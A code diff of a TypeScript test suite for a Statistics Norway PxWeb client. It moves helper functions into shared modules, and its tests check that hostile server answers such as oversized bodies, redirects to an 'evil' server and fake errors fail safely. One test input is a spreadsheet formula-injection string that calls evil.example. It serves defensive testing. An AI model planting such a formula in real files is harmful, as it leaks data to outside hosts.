@@ -31,9 +31,11 @@ import { loadFromSsb, type CachePolicy, type SsbLoadResult } from "../../../src/
 import { cacheKey, planLoad, type LoadRequest } from "../../../src/sources/ssb/planner";
 import { RateLimiter, resetSharedRateLimiters } from "../../../src/sources/ssb/rate-limiter";
 import { SsbError, type CachedResponse, type ResponseCache } from "../../../src/sources/ssb/types";
+import { driveClock } from "../../support/clock-drive";
 import { FakeClock, settle } from "../../support/fake-clock";
 import { KLASS_PATH, startPxWebServer, type HostileAnswer, type PxWebServer } from "../../support/pxweb-server";
 import { worldDataset } from "../../support/pxweb-world";
+import { ssbFailure } from "../../support/ssb-failure";
 
 const ROOT = join(__dirname, "..", "..", "..");
 const pmk = templateIndicators(templateById("plan-miljo-kultur")!);
@@ -82,15 +84,6 @@ function dataKey(): string {
   return cacheKey(plan.queries[0]);
 }
 
-async function failure(p: Promise<unknown>): Promise<SsbError> {
-  const outcome = await p.then(
-    () => undefined,
-    (e: unknown) => e,
-  );
-  if (!(outcome instanceof SsbError)) throw new Error(`expected an SsbError, got ${String(outcome)}`);
-  return outcome;
-}
-
 /** What an error message must be: one line, about the proxy that answered, never blaming data.ssb.no. */
 function expectProxyMessage(e: SsbError, words: RegExp[]): void {
   for (const lang of ["nb", "en"] as const) {
@@ -133,7 +126,7 @@ describe("hostile data answers: the load fails, nothing is cached, and the next 
     const files = new RecordingCache(new FileResponseCache(join(dir, "cache")));
     for (const cache of [memory, idb, files]) {
       server.hostileNext(count ?? 1, answer, isData);
-      const e = await failure(loadFromSsb(REQUEST, { client: client(extra), cache }));
+      const e = await ssbFailure(loadFromSsb(REQUEST, { client: client(extra), cache }));
       expect(e.kind).toBe(kind);
       expectProxyMessage(e, [...words, new RegExp(origin().replace(/[.]/g, "\\."))]);
       expect(cache.stored.filter((k) => k.includes("/data"))).toEqual([]);
@@ -150,7 +143,7 @@ describe("hostile data answers: the load fails, nothing is cached, and the next 
     server.hostileNext(1, { kind: "endless" }, isData);
     const before = process.memoryUsage().rss;
     const t0 = Date.now();
-    const e = await failure(loadFromSsb(REQUEST, { client: client({ timeoutMs: 60_000 }) }));
+    const e = await ssbFailure(loadFromSsb(REQUEST, { client: client({ timeoutMs: 60_000 }) }));
     expect(e.messageIn("en")).toMatch(new RegExp(`larger than ${MAX_RESPONSE_BYTES / 1024 / 1024} MB and was stopped`));
     // Decoded text of 64 MiB is ~128 MB as UTF-16; the point is that it stops, in seconds.
     expect(Date.now() - t0).toBeLessThan(20_000);
@@ -159,7 +152,7 @@ describe("hostile data answers: the load fails, nothing is cached, and the next 
 
   it("refuses a cube bomb from its declared size, before anything is allocated for it", async () => {
     server.hostileNext(1, { kind: "cube-bomb", categories: 1000 }, isData); // 10^15 cells declared
-    const e = await failure(loadFromSsb(REQUEST, { client: client() }));
+    const e = await ssbFailure(loadFromSsb(REQUEST, { client: client() }));
     expect(e.messageIn("en")).toMatch(/cells where \d+ were asked for|must be at most 5000000/);
   });
 
@@ -170,7 +163,7 @@ describe("hostile data answers: the load fails, nothing is cached, and the next 
     const ok = await loadFromSsb(REQUEST, { client: client() });
     expect(ok.complete).toBe(true);
     server.hostileNext(10, { kind: "redirect", to: `${path.pathname}${path.search}` }, isData);
-    const e = await failure(loadFromSsb(REQUEST, { client: client() }));
+    const e = await ssbFailure(loadFromSsb(REQUEST, { client: client() }));
     expect(e.messageIn("nb")).toMatch(/sendte forespørselen videre/);
   });
 
@@ -178,7 +171,7 @@ describe("hostile data answers: the load fails, nothing is cached, and the next 
     const evil = await startPxWebServer();
     try {
       server.hostileNext(1, { kind: "redirect", to: `${evil.baseUrl}/tables/12362/data?lang=no` }, isData);
-      const e = await failure(loadFromSsb(REQUEST, { client: client() }));
+      const e = await ssbFailure(loadFromSsb(REQUEST, { client: client() }));
       expect(e.kind).toBe("bad-response");
       expect(evil.requests).toHaveLength(0);
     } finally {
@@ -189,7 +182,7 @@ describe("hostile data answers: the load fails, nothing is cached, and the next 
   it("refuses every redirect a browser hides (an opaque redirect)", async () => {
     const opaque = { type: "opaqueredirect", status: 0, ok: false, redirected: false, url: "", headers: new Headers(), body: null } as unknown as Response;
     const c = new SsbClient({ baseUrl: "https://data.ssb.no/api/pxwebapi/v2", fetch: (async () => opaque) as unknown as typeof fetch, limiter: new RateLimiter({ maxCalls: 10, windowMs: 1000 }) });
-    const e = await failure(c.request("GET", "https://data.ssb.no/api/pxwebapi/v2/config", undefined));
+    const e = await ssbFailure(c.request("GET", "https://data.ssb.no/api/pxwebapi/v2/config", undefined));
     expect(e.kind).toBe("bad-response");
     expect(e.messageIn("nb")).toMatch(/^SSB sendte forespørselen videre til en annen adresse\. Produktet følger ikke omdirigeringer/);
   });
@@ -197,7 +190,7 @@ describe("hostile data answers: the load fails, nothing is cached, and the next 
   it("puts SSB's own problem text in a message as one bounded line", async () => {
     const title = `=HYPERLINK("http://evil.example/?"&A1)\n${"x".repeat(5000)}\u0000`;
     server.failNext(1, { status: 400, problem: { title, detail: "line\r\nbreak" } }, isData);
-    const e = await failure(loadFromSsb(REQUEST, { client: client() }));
+    const e = await ssbFailure(loadFromSsb(REQUEST, { client: client() }));
     expect(e.kind).toBe("bad-request");
     expect(e.messageIn("nb")).not.toMatch(/[\n\r\u0000]/);
     expect(e.messageIn("nb").length).toBeLessThan(500);
@@ -239,7 +232,7 @@ describe("a cached lie is evicted and fetched again", () => {
     await loadFromSsb(REQUEST, { client: client(), cache });
     await cache.set(dataKey(), { body: JSON.stringify(worldDataset("12842")), fetchedAt: "2025-01-01T00:00:00.000Z" });
     server.failNext(10, { status: 503 }, isData);
-    const e = await failure(loadFromSsb(REQUEST, { client: client({ maxRetries: 0 }), cache, policy: "refresh" }));
+    const e = await ssbFailure(loadFromSsb(REQUEST, { client: client({ maxRetries: 0 }), cache, policy: "refresh" }));
     expect(e.kind).toBe("unavailable");
     expect(cache.has(dataKey())).toBe(false);
   });
@@ -274,27 +267,6 @@ function trackedFetch() {
   return { fetch: tracked, idle: () => inflight === 0 };
 }
 
-/** Run `p` to its end, moving the fake clock to the next sleeper whenever no request is in flight. */
-async function drive<T>(clock: FakeClock, idle: () => boolean, p: Promise<T>): Promise<T> {
-  let done = false;
-  const outcome = p.then(
-    (value) => ({ ok: true as const, value }),
-    (error: unknown) => ({ ok: false as const, error }),
-  );
-  void outcome.then(() => (done = true));
-  for (let i = 0; i < 10_000 && !done; i++) {
-    await settle();
-    if (done) break;
-    if (idle() && clock.pending > 0) {
-      await settle();
-      if (!done && idle()) await clock.advanceTo(clock.nextDue()!);
-    } else await new Promise((r) => setTimeout(r, 2));
-  }
-  const r = await outcome;
-  if (!r.ok) throw r.error;
-  return r.value;
-}
-
 function clockedClient(clock: FakeClock, waits: number[], extra: Partial<SsbClientOptions> = {}) {
   const { fetch: f, idle } = trackedFetch();
   const c = new SsbClient({ baseUrl: server.baseUrl, fetch: f, clock, timeoutMs: 30_000, onWait: (_, ms) => waits.push(ms), ...extra });
@@ -316,7 +288,7 @@ describe("bounded waiting", () => {
     const cache = new RecordingCache(new MemoryResponseCache());
     server.hostileNext(1, answer, isData);
     const start = clock.now();
-    const e = await failure(drive(clock, idle, loadFromSsb(REQUEST, { client: c, cache })));
+    const e = await ssbFailure(driveClock(clock, loadFromSsb(REQUEST, { client: c, cache }), idle));
     expect(e.kind).toBe(kind);
     expect(clock.now() - start).toBeLessThanOrEqual(MAX_WAIT_SECONDS * 1000);
     expect(clock.sleeps.filter((ms) => ms > MAX_WAIT_SECONDS * 1000)).toEqual([]);
@@ -334,7 +306,7 @@ describe("bounded waiting", () => {
     const { c, idle } = clockedClient(clock, waits);
     server.hostileNext(1, { kind: "retry-after", status: 429, value: "120" }, isData);
     const start = clock.now();
-    const r = await drive(clock, idle, loadFromSsb(REQUEST, { client: c }));
+    const r = await driveClock(clock, loadFromSsb(REQUEST, { client: c }), idle);
     expect(r.complete).toBe(true);
     expect(clock.now() - start).toBeGreaterThanOrEqual(120_000);
     expect(waits).toContain(120_000);
@@ -347,7 +319,7 @@ describe("bounded waiting", () => {
     const waits: number[] = [];
     const { c, idle } = clockedClient(clock, waits);
     const start = clock.now();
-    const r: SsbLoadResult = await drive(clock, idle, loadFromSsb(REQUEST, { client: c }));
+    const r: SsbLoadResult = await driveClock(clock, loadFromSsb(REQUEST, { client: c }), idle);
     expect(r.complete).toBe(true);
     expect(c.limiter.limits).toEqual({ maxCalls: 1, windowMs: MAX_WAIT_SECONDS * 1000 });
     expect(clock.now() - start).toBeLessThanOrEqual(MAX_WAIT_SECONDS * 1000);
@@ -360,7 +332,7 @@ describe("bounded waiting", () => {
     const limiter = new RateLimiter({ maxCalls: 1, windowMs: 60_000 }, clock);
     limiter.pauseUntil(clock.now() + 3600_000);
     const { c, idle } = clockedClient(clock, [], { limiter });
-    const e = await failure(drive(clock, idle, loadFromSsb(REQUEST, { client: c })));
+    const e = await ssbFailure(driveClock(clock, loadFromSsb(REQUEST, { client: c }), idle));
     expect(e.kind).toBe("rate-limited");
     expect(e.messageIn("nb")).toContain(`tillater ikke flere forespørsler på over 3 minutter. Prøv igjen etter kl. ${localHm(clock.now() + 3600_000)}.`);
     expect(server.requests).toHaveLength(0);
@@ -411,13 +383,13 @@ describe("other answers", () => {
 
   it("table information about another table, or a search answer that is not one, is an SSB failure", async () => {
     server.hostileNext(1, { kind: "other-table", table: "12842" }, (r) => r.path === "/tables/12362");
-    const info = await failure(client().tableInfo("12362"));
+    const info = await ssbFailure(client().tableInfo("12362"));
     expect(info.kind).toBe("bad-response");
     server.hostileNext(1, { kind: "html-200" }, (r) => r.path === "/tables");
-    const search = await failure(client().search("kostra"));
+    const search = await ssbFailure(client().search("kostra"));
     expect(search.messageIn("nb")).toMatch(/kanskje en innloggingsside/);
     server.hostileNext(1, { kind: "truncated" }, (r) => r.path.endsWith("/metadata"));
-    const meta = await failure(client().metadata("12362"));
+    const meta = await ssbFailure(client().metadata("12362"));
     expect(meta.kind).toBe("bad-response");
     // Recovered.
     expect((await client().tableInfo("12362")).id).toBe("12362");
@@ -429,12 +401,12 @@ describe("other answers", () => {
     server = await startPxWebServer({ klass: {} });
     const cache = new RecordingCache(new MemoryResponseCache());
     server.hostileNext(1, { kind: "html-200" }, (r) => r.path.startsWith(KLASS_PATH));
-    const e = await failure(loadKostraGroups(2021, { client: client(), cache }));
+    const e = await ssbFailure(loadKostraGroups(2021, { client: client(), cache }));
     expect(e.kind).toBe("bad-response");
     expect(e.messageIn("nb")).toMatch(/^Kunne ikke hente KOSTRA-grupperingen for 2021 fra SSB \(Klass\): Mellomtjeneren .* svarte med en nettside/);
     expect(cache.stored).toEqual([]);
     server.hostileNext(1, { kind: "other-table", table: "12362" }, (r) => r.path.startsWith(KLASS_PATH));
-    expect((await failure(loadKostraGroups(2021, { client: client(), cache }))).kind).toBe("bad-response");
+    expect((await ssbFailure(loadKostraGroups(2021, { client: client(), cache }))).kind).toBe("bad-response");
     expect(cache.stored).toEqual([]);
     const ok = await loadKostraGroups(2021, { client: client(), cache });
     expect(ok.groups.ha).toBe("ekg07");
